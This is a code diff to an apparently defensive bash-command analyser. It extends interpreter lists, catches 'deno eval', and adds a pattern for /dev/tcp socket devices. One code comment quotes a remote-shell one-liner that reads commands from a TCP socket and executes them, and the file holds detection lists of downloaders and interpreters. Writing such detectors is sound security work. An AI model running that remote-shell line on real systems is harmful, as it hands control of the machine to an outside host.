@@ -240,7 +240,7 @@ _FORK_DEF = re2.compile(r"(?:\bfunction\s+([^\s(){}|&;<>]+)\s*(?:\(\s*\))?|([^\s
 
 SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "busybox"})
 INTERPRETERS = SHELLS | frozenset({
-    "python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "deno", "bun", "osascript",
+    "python", "python2", "python3", "perl", "ruby", "node", "php", "lua", "deno", "bun", "osascript", "tsx", "ts-node",
 })
 DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "xh"})
 CODE_RUNNERS = frozenset({"eval", "source", ".", "exec"})
@@ -1749,8 +1749,9 @@ def _hands_text_to_interpreter(analysis: BashAnalysis) -> bool:
             if _own_code(cmd):
                 continue   # python3 --version; python3 -c "print(json.load(sys.stdin))": its own code (below)
             operands = [a for a in rest if not a.startswith("-")]
-            if not operands or any(a in ("-c", "-e", "-E", "-", "-s", "--eval", "-r") for a in rest):
-                return True
+            if not operands or any(a in ("-c", "-e", "-E", "-", "-s", "--eval", "-r") for a in rest) \
+                    or name == "deno" and rest[:1] == ("eval",):
+                return True   # ((probe round 34, residuals36) deno eval CODE: node -e CODE)
     return False
 
 
@@ -1942,6 +1943,9 @@ def _piped_on(text: str, c: SimpleCommand, cmds: list, k: int, quiet: list) -> b
     return rest.startswith("|") and not rest.startswith("||") and not (k + 1 < len(cmds) and quiet[k + 1])
 
 
+_SOCKET_DEVICE = re.compile(r"/dev/+(?:tcp|udp)/|\bztcp\b")
+
+
 def bash_findings(analysis: BashAnalysis, *, home: str | None) -> tuple[str, str, str] | None:
     """(code, reason, part) of the first destructive finding of a parsed command."""
     if analysis.catastrophic:
@@ -1992,6 +1996,14 @@ def bash_findings(analysis: BashAnalysis, *, home: str | None) -> tuple[str, str
     # that does something else (git commit -m "drop table X" && git push)
     text = _loud_text(analysis) if data or shell_shaped else analysis.command
     hit = text_findings(text, shell_shaped=shell_shaped, data=data)
+    if hit is None and ("/dev/" in analysis.command or "ztcp" in analysis.command) \
+            and _SOCKET_DEVICE.search(analysis.command):
+        # (probe round 34, residuals36) a socket's descriptor whose lines are run (exec
+        # 5<>/dev/tcp/h/p; cat <&5 | while read l; do $l; done), now that N<>F parses: the
+        # remote shell patterns read the command as written (the loud text blanks read)
+        again = text_findings(analysis.command, shell_shaped=True, data=False)
+        if again is not None and again[0] == "remote_shell":
+            hit = again
     if hit is None and not shell_shaped:
         # an interpreter's own program (python3 -c "...shutil.rmtree(Path.home())")
         for cmd in analysis.commands:
